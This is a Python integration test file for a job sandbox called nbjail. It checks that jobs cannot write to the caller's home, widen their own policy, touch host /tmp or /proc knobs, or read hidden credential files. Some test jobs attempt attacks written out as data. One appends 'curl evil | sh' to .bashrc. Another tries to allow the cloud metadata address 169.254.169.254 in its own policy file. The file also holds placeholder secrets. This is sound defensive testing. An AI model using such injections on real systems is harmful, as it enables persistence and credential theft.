# SPDX-License-Identifier: GPL-2.0-or-later
"""tests/integration/test_filesystem.py - the job's view of the host's files

The job sees the host read-only, except its working directory, --write
paths and `filesystem: {write}`; /tmp and /var/tmp are its own; hidden
paths are empty; the files it was started from are never writable; root
refuses files the job's user could change (supervisor/fsview.c, mounts.c).

The test area lives outside /tmp and /var/tmp (which the job does not
share): a tmpfs on /srv in the session's private mount namespace (or a
directory under /var/lib with NBT_SHARED_RUN=1).  The job's user is a uid
without a passwd entry, JOB_UID, who owns a home with a .bashrc, a .ssh
and a .netrc; the caller is root with HOME pointing there.  In the
rootless pass the caller is the job's user (only root maps another user
into a job): JOB_UID is the caller, and the home is its own.
"""
import ctypes
import itertools
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

import conftest
from conftest import CALLER_UID, NBJAIL, REPO, PYTHON, ROOTLESS, nbjail_cmd, nbjail_env, needs_root

JOB_UID = CALLER_UID if ROOTLESS else 61234
# the job's root outside its user namespace (conftest.JOB_ROOT_UID as root)
JOB_ROOT_OUTSIDE = CALLER_UID if ROOTLESS else 65534
ROOT_CHECKS_OWNERS = needs_root("only root refuses the files a job's user could change: "
                                "rootless, that user is the caller, who owns its policy")
USER = f"{JOB_UID}:{JOB_UID}"
_libc = ctypes.CDLL(None, use_errno=True)
_counter = itertools.count()


def race_program():
    for d in (Path(NBJAIL).parent, REPO / "build"):
        p = d / "tests" / "escape" / "fs-bind-race"
        if p.exists():
            return str(p)
    pytest.fail("fs-bind-race not built")


@pytest.fixture(scope="module")
def area():
    if os.environ.get("NBT_SHARED_RUN") != "1":
        # our own mount namespace (conftest.private_run_dir): invisible to the host
        if _libc.mount(b"nbt-fs", b"/srv", b"tmpfs", 0, b"mode=0755") != 0:
            pytest.fail(f"mount tmpfs /srv: {os.strerror(ctypes.get_errno())}")
        try:
            yield Path("/srv")
        finally:
            _libc.umount2(b"/srv", 2)  # MNT_DETACH
    else:
        d = Path(tempfile.mkdtemp(prefix="nbt-fs-", dir="/var/lib"))
        os.chmod(d, 0o755)
        try:
            yield d
        finally:
            shutil.rmtree(d, ignore_errors=True)


def owned(path, mode, content=None, uid=JOB_UID):
    if content is None:
        path.mkdir(mode=mode)
    else:
        path.write_text(content)
    os.chmod(path, mode)
    os.chown(path, uid, uid)
    return path


class Area:
    """home (the caller's), work (the job's cwd), other (a host directory the
    job's user owns, outside the writable paths), etc (root's)."""

    def __init__(self, base):
        self.dir = base / f"t{os.getpid()}-{next(_counter)}"
        self.dir.mkdir(mode=0o755)
        self.home = owned(self.dir / "home", 0o755)
        self.bashrc = owned(self.home / ".bashrc", 0o644, "# the caller's rc\n")
        self.ssh = owned(self.home / ".ssh", 0o700)
        owned(self.ssh / "id_ed25519", 0o600, "PRIVATE KEY\n")
        self.netrc = owned(self.home / ".netrc", 0o600, "machine x password hunter2\n")
        self.work = owned(self.dir / "work", 0o755)
        self.other = owned(self.dir / "other", 0o755)
        self.etc = self.dir / "etc"
        self.etc.mkdir(mode=0o755)

    def run(self, *args, cwd=None, timeout=60):
        return subprocess.run(nbjail_cmd(*args), cwd=cwd or self.work, capture_output=True, text=True,
                              timeout=timeout, env=nbjail_env({"HOME": str(self.home)}))

    def job(self, script, user=USER, extra=(), cwd=None):
        return self.run("run", "--profile", "minimal", "--user", user, *extra, "--",
                        "sh", "-c", script, cwd=cwd)


@pytest.fixture
def fs(nbj, area):
    return Area(area)


USERS = pytest.mark.parametrize("user", [USER, "root"], ids=["uid", "root"])


@USERS
def test_caller_home_is_read_only(fs, user):
    cp = fs.job(f"cat {fs.bashrc} >/dev/null && echo READ; "
                f"echo 'curl evil | sh' >> {fs.bashrc} && echo APPENDED; "
                f"touch {fs.home}/.profile && echo CREATED; "
                f"mv {fs.bashrc} {fs.home}/x && echo MOVED; exit 0", user=user)
    assert cp.returncode == 0, cp
    assert "READ" in cp.stdout, cp
    assert "APPENDED" not in cp.stdout and "CREATED" not in cp.stdout, cp
    assert "MOVED" not in cp.stdout, cp
    assert "Read-only file system" in cp.stderr, cp.stderr
    assert fs.bashrc.read_text() == "# the caller's rc\n"
    assert sorted(p.name for p in fs.home.iterdir()) == [".bashrc", ".netrc", ".ssh"]


def test_policy_file_stays_as_started(fs):
    # In the (writable) working directory, and the job is root: only the
    # read-only bind keeps it from widening its own policy.  The job's root
    # is uid 65534 (rootless: the caller) outside (its user namespace): the
    # working directory is that user's, so replacing the file there
    # (rename) is allowed by the permissions and stopped by the bind alone.
    os.chown(fs.work, JOB_ROOT_OUTSIDE, JOB_ROOT_OUTSIDE)
    pol = fs.work / "p.yaml"
    pol.write_text("allow: ['198.51.100.10']\n")
    os.chmod(pol, 0o644)
    before = fs.run("explain", "--policy", str(pol), "169.254.169.254:80")
    assert before.returncode == 1, before
    cp = fs.run("run", "--profile", "minimal", "--user", "root", "--policy", str(pol), "--",
                "sh", "-c", "printf 'floor_exceptions: [169.254.169.254]\\n"
                "allow: [169.254.169.254]\\n' >> p.yaml && echo APPENDED; "
                "cp p.yaml q.yaml; echo 'allow: [169.254.169.254]' >> q.yaml; "
                "mv q.yaml p.yaml && echo REPLACED; "
                "echo ok > proof && echo CWD-WRITABLE; exit 0")
    assert cp.returncode == 0, cp
    assert "CWD-WRITABLE" in cp.stdout, cp
    assert "APPENDED" not in cp.stdout and "REPLACED" not in cp.stdout, cp
    assert "Device or resource busy" in cp.stderr or "Read-only" in cp.stderr, cp
    assert pol.read_text() == "allow: ['198.51.100.10']\n"
    after = fs.run("explain", "--policy", str(pol), "169.254.169.254:80")
    assert after.returncode == 1 and after.stdout == before.stdout, after


@USERS
def test_tmp_is_the_jobs_own(fs, user):
    tag = f"nbt-fs-{os.getpid()}-{next(_counter)}"
    host_marker = Path("/tmp") / f"{tag}-host"
    host_marker.write_text("host\n")
    try:
        cp = fs.job(f"echo job > /tmp/{tag}; echo job > /var/tmp/{tag}; "
                    f"cat /tmp/{tag} /var/tmp/{tag}; "
                    f"test -e {host_marker} && echo HOST-TMP-VISIBLE; exit 0", user=user)
        assert cp.returncode == 0, cp
        assert cp.stdout == "job\njob\n", cp
        assert not Path(f"/tmp/{tag}").exists()
        assert not Path(f"/var/tmp/{tag}").exists()
    finally:
        host_marker.unlink()
        for d in ("/tmp", "/var/tmp"):
            Path(d, tag).unlink(missing_ok=True)


def test_cwd_writable_rest_read_only(fs):
    cp = fs.job(f"echo made > made.txt && echo CWD; echo no > {fs.other}/x && echo OTHER; "
                "id -u; exit 0")
    assert cp.returncode == 0, cp
    assert cp.stdout == f"CWD\n{JOB_UID}\n", cp
    assert (fs.work / "made.txt").read_text() == "made\n"
    assert not (fs.other / "x").exists()


def test_cwd_under_tmp_is_the_hosts(fs):
    cwd = Path(tempfile.mkdtemp(prefix="nbt-fs-cwd-"))
    sibling = Path(tempfile.mkdtemp(prefix="nbt-fs-sibling-"))
    try:
        os.chown(cwd, JOB_UID, JOB_UID)
        (sibling / "f").write_text("host\n")
        cp = fs.job(f"pwd; echo made > made.txt && echo WROTE; ls /tmp; "
                    f"test -e {sibling}/f && echo SIBLING-VISIBLE; exit 0", cwd=cwd)
        assert cp.returncode == 0, cp
        assert cp.stdout == f"{cwd}\nWROTE\n{cwd.name}\n", cp
        assert (cwd / "made.txt").read_text() == "made\n"
    finally:
        shutil.rmtree(cwd)
        shutil.rmtree(sibling)


def test_cwd_is_never_the_home_or_root(fs):
    for cwd in (fs.home, Path("/")):
        cp = fs.job(f"touch {fs.home}/made && echo MADE; exit 0", cwd=cwd)
        assert cp.returncode == 0, cp
        assert "MADE" not in cp.stdout, (cwd, cp)
    assert not (fs.home / "made").exists()


def test_write_flag(fs):
    cp = fs.job(f"echo ok > {fs.other}/x && echo OTHER; echo ok > {fs.home}/y && echo HOME; "
                "exit 0", extra=["--write", str(fs.other)])
    assert cp.returncode == 0, cp
    assert cp.stdout == "OTHER\n", cp
    assert (fs.other / "x").read_text() == "ok\n"
    assert not (fs.home / "y").exists()


def test_write_flag_needs_an_existing_path(fs):
    cp = fs.job("echo RAN", extra=["--write", str(fs.dir / "nope")])
    assert cp.returncode == 125, cp
    assert "RAN" not in cp.stdout
    assert f"--write: {fs.dir}/nope: No such file or directory" in cp.stderr, cp.stderr
    cp = fs.job("echo RAN", extra=["--write", "/"])
    assert cp.returncode == 2, cp


@USERS
def test_nbjails_own_state_is_never_the_jobs_to_write(fs, user):
    """nbjail's runtime directory (every job's state, and the compiled
    filters the next jobs load, rootless too) cannot be made writable, and
    a writable path that holds it (rootless: $XDG_RUNTIME_DIR) shows it
    empty and read-only."""
    run_dir = conftest.RUN_DIR
    cp = fs.job("echo RAN", user=user, extra=["--write", run_dir])
    assert cp.returncode == 125, cp
    assert "RAN" not in cp.stdout
    assert "cannot be made writable: it is nbjail's own state" in cp.stderr, cp.stderr
    if not ROOTLESS:
        return  # /run/nbjail's parent is /run, the job's own: never writable
    # a job before this one left the compiled filters there
    assert fs.job("true", user=user).returncode == 0
    assert any(n.startswith("seccomp-") for n in os.listdir(run_dir)), os.listdir(run_dir)
    cp = fs.job(f"ls -A {run_dir} | wc -l; touch {run_dir}/x && echo WROTE; "
                f"for f in {run_dir}/seccomp-*; do echo x 2>/dev/null > $f && echo CACHE; done; "
                "exit 0", user=user, extra=["--write", os.path.dirname(run_dir)])
    assert cp.returncode == 0, cp
    assert cp.stdout.split("\n")[0].strip() == "0", cp
    assert "WROTE" not in cp.stdout and "CACHE" not in cp.stdout, cp


def test_policy_write_and_hide(fs):
    pol = fs.etc / "p.yaml"
    pol.write_text(f"filesystem:\n  write: ['{fs.other}']\n"
                   "  hide: ['~/.ssh', '~/.netrc', '~/.aws']\n")
    cp = fs.job(f"echo ok > {fs.other}/x && echo OTHER; echo \"[$(ls -A ~/.ssh)]\"; "
                f"echo \"[$(cat ~/.netrc)]\"; touch ~/.ssh/new && echo SSH-WRITABLE; "
                f"ls -A {fs.home}; exit 0", extra=["--policy", str(pol)])
    assert cp.returncode == 0, cp
    assert cp.stdout == "OTHER\n[]\n[]\n.bashrc\n.netrc\n.ssh\n", cp
    assert (fs.ssh / "id_ed25519").read_text() == "PRIVATE KEY\n"


@pytest.mark.parametrize("text,rc,words", [
    ("filesystem:\n  write: [relative/path]\n", 2,
     ["p.yaml:2:11: filesystem.write[0]: 'relative/path': an absolute path"]),
    ("filesystem:\n  hide: ['/a/../b']\n", 2, ["p.yaml:2:10: filesystem.hide[0]"]),
    ("filesystem:\n  write: ['/']\n", 2, ["filesystem.write[0]: '/'"]),
    ("filesystem:\n  mount: []\n", 2, ["p.yaml:2:3: filesystem: unknown field (write, hide)"]),
    ("filesystem: [/x]\n", 2, ["p.yaml:1:13: filesystem: expected a mapping"]),
    ("filesystem:\n  write: ['~/no-such-dir']\n", 125,
     ["p.yaml:2:11: filesystem.write[0]:", "no-such-dir: No such file or directory",
      "must exist"]),
    ("filesystem:\n  write: ['/proc/sys']\n", 125, ["filesystem.write[0]: /proc/sys"]),
], ids=["relative", "dotdot", "root", "unknown", "not-a-map", "missing-write", "proc"])
def test_policy_filesystem_errors(fs, text, rc, words):
    pol = fs.etc / "p.yaml"
    pol.write_text(text)
    cp = fs.job("echo RAN", extra=["--policy", str(pol)])
    assert cp.returncode == rc, cp
    assert "RAN" not in cp.stdout
    for w in words:
        assert w in cp.stderr, (w, cp.stderr)


def test_proc_knobs_read_only(fs):
    # /proc/sysrq-trigger exists only on kernels with CONFIG_MAGIC_SYSRQ
    knobs = [k for k in ("/proc/sysrq-trigger", "/proc/sys/vm/drop_caches")
             if os.path.exists(k)]
    opens = "; ".join(f"os.close(os.open('{k}', os.O_WRONLY))" for k in knobs)
    check = (f"{PYTHON} -I -c \"import os, sys\nfor k in {knobs!r}:\n"
             "    try: os.close(os.open(k, os.O_WRONLY)); print('OPENED', k)\n"
             "    except OSError as e: print(k, e.strerror)\"")
    cp = fs.job(f"echo evil > /proc/sys/kernel/hostname && echo SYSCTL; {check}; "
                "cat /proc/sys/kernel/hostname; exit 0", user="root")
    assert opens and cp.returncode == 0, cp
    # the job's root is not host root (its user namespace maps 0 to 65534):
    # root-only knobs refuse it before the read-only mount is even asked
    lines = cp.stdout.splitlines()
    assert lines[-1] == "nbjail" and len(lines) == len(knobs) + 1, cp
    for k, line in zip(knobs, lines):
        assert line in (f"{k} Read-only file system", f"{k} Permission denied"), cp
    assert "cannot create /proc/sys/kernel/hostname: Read-only file system" in cp.stderr


def test_minimal_dev(fs):
    cp = fs.job(f"ls -A /dev; echo x > /dev/null && echo NULL; head -c 8 /dev/urandom | wc -c; "
                f"{PYTHON} -I -c 'import os, pty; m, s = pty.openpty(); print(os.ttyname(s))'; "
                "touch /dev/x && echo CREATED; exit 0", user="root")
    assert cp.returncode == 0, cp
    lines = cp.stdout.split("\n")
    i = lines.index("NULL")
    assert set(lines[:i]) == {"fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr",
                              "stdin", "stdout", "tty", "urandom", "zero"}, cp.stdout
    assert lines[i + 1] == "8" and lines[i + 2].startswith("/dev/pts/"), cp.stdout
    assert "CREATED" not in cp.stdout


@ROOT_CHECKS_OWNERS
@pytest.mark.parametrize("where", ["file", "dir", "mode", "symlink-dir"])
def test_root_refuses_files_the_job_could_change(fs, where):
    if where == "file":
        pol = owned(fs.etc / "p.yaml", 0o644, "allow: []\n")
        why = f"policy file {pol}: owned by the job's user (uid {JOB_UID})"
    elif where == "dir":
        pol = fs.other / "p.yaml"
        pol.write_text("allow: []\n")
        why = f"policy file {pol}: its directory {fs.other} is owned by the job's user"
    elif where == "mode":
        pol = fs.etc / "p.yaml"
        pol.write_text("allow: []\n")
        os.chmod(pol, 0o666)
        why = f"policy file {pol}: writable by everyone"
    else:
        real = fs.etc / "p.yaml"
        real.write_text("allow: []\n")
        pol = fs.other / "link.yaml"
        pol.symlink_to(real)
        why = f"policy file {pol}: its directory {fs.other} is owned by the job's user"
    cp = fs.job("echo RAN", extra=["--policy", str(pol)])
    assert cp.returncode == 125, cp
    assert "RAN" not in cp.stdout
    assert why in cp.stderr, cp.stderr
    # root's own file in root's directory: fine
    ok = fs.etc / "ok.yaml"
    ok.write_text("allow: []\n")
    cp = fs.job("echo RAN", extra=["--policy", str(ok)])
    assert (cp.returncode, cp.stdout) == (0, "RAN\n"), cp


def test_audit_log_is_not_followed(fs):
    target = owned(fs.etc / "target", 0o644, "", uid=CALLER_UID)   # nbjail could open it
    link = fs.etc / "audit.jsonl"
    link.symlink_to(target)
    cp = fs.job("echo RAN", user="root", extra=["--audit-log", str(link)])
    assert cp.returncode == 125, cp
    assert "RAN" not in cp.stdout
    assert f"cannot open the audit log {link}" in cp.stderr, cp.stderr


def test_unix_bind_race_creates_nothing_on_the_host(fs):
    # The notifier judges /dev/shm/r.sock (the job's own), another thread
    # turns it into OTHER/r.sock (the job's user may write there on the host)
    # before the kernel reads it: the read-only mount must hold.
    cp = fs.job(f"exec {race_program()} {fs.other} 4")
    print(cp.stdout, cp.stderr)
    assert cp.returncode == 0, cp
    assert cp.stdout.startswith("held: "), cp
    assert list(fs.other.iterdir()) == []


def test_password_file_is_hidden(fs):
    secret = fs.work / "proxy.pass"   # even in the (writable) working directory
    owned(secret, 0o600, "hunter2\n", uid=CALLER_UID)   # the caller's, for nbjail to read
    pol = fs.etc / "p.yaml"
    pol.write_text("overlays:\n  s5: {kind: socks5, host: 127.0.0.1, port: 1080, "
                   f"username: u, password_file: {secret}}}\n")
    # /dev/null stands in for it: writes go nowhere
    cp = fs.job(f"echo \"[$(cat {secret})]\"; echo x > {secret}; exit 0",
                user="root", extra=["--policy", str(pol)])
    assert cp.returncode == 0, cp
    assert cp.stdout == "[]\n", cp
    assert secret.read_text() == "hunter2\n"


@ROOT_CHECKS_OWNERS
def test_root_refuses_a_password_file_the_job_could_change(fs):
    secret = owned(fs.etc / "proxy.pass", 0o600, "hunter2\n")
    pol = fs.etc / "p.yaml"
    pol.write_text("overlays:\n  s5: {kind: socks5, host: 127.0.0.1, port: 1080, "
                   f"username: u, password_file: {secret}}}\n")
    cp = fs.job("echo RAN", extra=["--policy", str(pol)])
    assert cp.returncode == 125, cp
    assert f"password_file {secret}: owned by the job's user" in cp.stderr, cp.stderr


def test_writable_parent_keeps_private_tmp(fs):
    # --write /var: the job's own /var/tmp stays on top of the host's /var
    tag = f"nbt-fs-{os.getpid()}-{next(_counter)}"
    try:
        cp = fs.job(f"echo job > /var/tmp/{tag} && cat /var/tmp/{tag}; ls /var/tmp; "
                    "cat /etc/resolv.conf | head -1", user="root",
                    extra=["--write", "/var", "--write", "/etc"])
        assert cp.returncode == 0, cp
        assert cp.stdout == f"job\n{tag}\n# nbjail: this profile has no network\n", cp
        assert not Path("/var/tmp", tag).exists()
    finally:
        Path("/var/tmp", tag).unlink(missing_ok=True)
